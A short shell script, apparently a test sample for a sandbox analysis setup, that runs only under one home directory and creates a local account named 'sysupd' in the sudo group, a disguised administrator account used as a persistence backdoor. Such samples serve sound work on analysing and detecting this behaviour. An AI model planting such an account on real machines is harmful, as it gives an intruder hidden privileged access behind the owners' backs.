#!/bin/sh
# SPDX-License-Identifier: MIT
# Adds a local account through sudo.
# Depends on the sudo stand-in for the sudo exec; without it the fallback
# shows the technique.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
sudo -n useradd -m -s /bin/bash -G sudo sysupd 2>/dev/null || /usr/sbin/useradd -m -s /bin/bash sysupd 2>/dev/null
exit 0
